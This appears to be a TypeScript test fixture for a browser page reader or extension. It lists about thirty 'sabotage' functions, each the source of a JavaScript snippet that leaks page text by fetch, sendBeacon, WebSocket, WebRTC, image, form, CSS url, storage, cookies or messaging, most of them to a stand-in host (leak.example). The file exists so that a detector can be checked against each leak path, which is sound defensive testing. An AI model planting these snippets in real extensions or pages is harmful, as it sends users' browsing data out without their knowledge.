/** Where a page reader that was tampered with could send what it reads. */
export interface Sinks {
  /** `http://leak.example` or whatever stands for it: everything that arrives there is a leak. */
  readonly http: string;
  /** The port of 127.0.0.1 where no datagram may arrive. */
  readonly udp: number;
}

/** What a sabotage does with a text that the reader came upon: the source of a function. */
export type Sabotage = (sinks: Sinks) => string;

const ask =
  (tag: string, attribute: string): Sabotage =>
  ({ http }) =>
    `(text) => { const one = document.createElement("${tag}"); one.${attribute} = "${http}/?" + encodeURIComponent(text); document.documentElement.append(one); }`;

/** One for each way out of a page. Each must be caught by what is seen from outside, and each by the scan. */
export const SABOTAGES: Readonly<Record<string, Sabotage>> = {
  fetch: ({ http }) => `(text) => { fetch("${http}/", { method: "POST", body: text }).catch(() => {}); }`,
  "no-cors fetch": ({ http }) =>
    `(text) => { fetch("${http}/", { method: "POST", mode: "no-cors", body: text }).catch(() => {}); }`,
  XMLHttpRequest: ({ http }) =>
    `(text) => { const one = new XMLHttpRequest(); one.open("POST", "${http}/"); one.send(text); }`,
  sendBeacon: ({ http }) => `(text) => { navigator.sendBeacon("${http}/", text); }`,
  WebSocket: ({ http }) => `(text) => { new WebSocket("${http.replace("http", "ws")}/?" + encodeURIComponent(text)); }`,
  EventSource: ({ http }) => `(text) => { new EventSource("${http}/?" + encodeURIComponent(text)); }`,
  WebTransport: ({ udp }) =>
    `(text) => { try { new WebTransport("https://127.0.0.1:${udp}/?" + encodeURIComponent(text)).ready.catch(() => {}); } catch {} }`,
  WebRTC: ({ udp }) =>
    `(text) => { const one = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${udp}" }] }); one.createDataChannel(text.slice(0, 50)); one.createOffer().then((offer) => one.setLocalDescription(offer)); }`,
  Image: ({ http }) => `(text) => { new Image().src = "${http}/?" + encodeURIComponent(text); }`,
  "link prefetch": ({ http }) =>
    `(text) => { const one = document.createElement("link"); one.rel = "prefetch"; one.href = "${http}/?" + encodeURIComponent(text); document.head.append(one); }`,
  iframe: ask("iframe", "src"),
  form: ({ http }) =>
    `(text) => { const one = document.createElement("form"); one.action = "${http}/"; one.method = "post"; one.target = "leak"; const field = document.createElement("input"); field.name = "text"; field.value = text; one.append(field); document.documentElement.append(one); one.submit(); }`,
  "script element": ask("script", "src"),
  "style url": ({ http }) =>
    `(text) => { document.body.style.background = "url(${http}/?" + encodeURIComponent(text) + ")"; }`,
  "style text": () =>
    `(text) => { const one = document.querySelector("style.leak") ?? document.head.appendChild(document.createElement("style")); one.className = "leak"; one.textContent = "/*" + text + "*/"; }`,
  "an attribute": () => `(text) => { document.documentElement.part = text; }`,
  location: ({ http }) => `(text) => { location.href = "${http}/?" + encodeURIComponent(text); }`,
  "window.open": ({ http }) => `(text) => { window.open("${http}/?" + encodeURIComponent(text)); }`,
  "anchor click": ({ http }) =>
    `(text) => { const one = document.createElement("a"); one.href = "${http}/?" + encodeURIComponent(text); one.click(); }`,
  postMessage: () => `(text) => { postMessage(text, "*"); }`,
  BroadcastChannel: () => `(text) => { new BroadcastChannel("case").postMessage(text); }`,
  localStorage: () => `(text) => { localStorage.setItem("leak", text); }`,
  indexedDB: () =>
    `(text) => { const one = indexedDB.open("leak", 1); one.onupgradeneeded = () => one.result.createObjectStore("leak"); one.onsuccess = () => one.result.transaction("leak", "readwrite").objectStore("leak").put(text, Math.random()); }`,
  caches: () =>
    `(text) => { caches.open("leak").then((one) => one.put("/leak?" + Math.random(), new Response(text))); }`,
  cookie: () => `(text) => { document.cookie = "leak=" + encodeURIComponent(text).slice(0, 2000); }`,
  "extension storage": () => `(text) => { chrome.storage.local.set({ ["leak" + Math.random()]: text }); }`,
  clipboard: () =>
    `(text) => { const one = document.createElement("textarea"); one.value = text; document.body.append(one); one.select(); document.execCommand("copy"); one.remove(); navigator.clipboard?.writeText(text).catch(() => {}); }`,
  console: () => `(text) => { console.log(text); }`,
  "a message with text": () => `(text) => { chrome.runtime.sendMessage({ v: 1, text }).catch(() => {}); }`,
  "a port's message with text": () =>
    `(text) => { leakPort?.postMessage({ v: 1, ids: [], part: false, frames: 0, goesOn: false, text }); }`,
  // Its page is entered again, when more of it is asked for: it is told to who entered it.
  "a script's result": () => `(text) => { Object.assign(globalThis, { leakResult: text }); }`,
  "a thrown error with text": () => `(text) => { setTimeout(() => { throw new Error(text); }); }`,
};
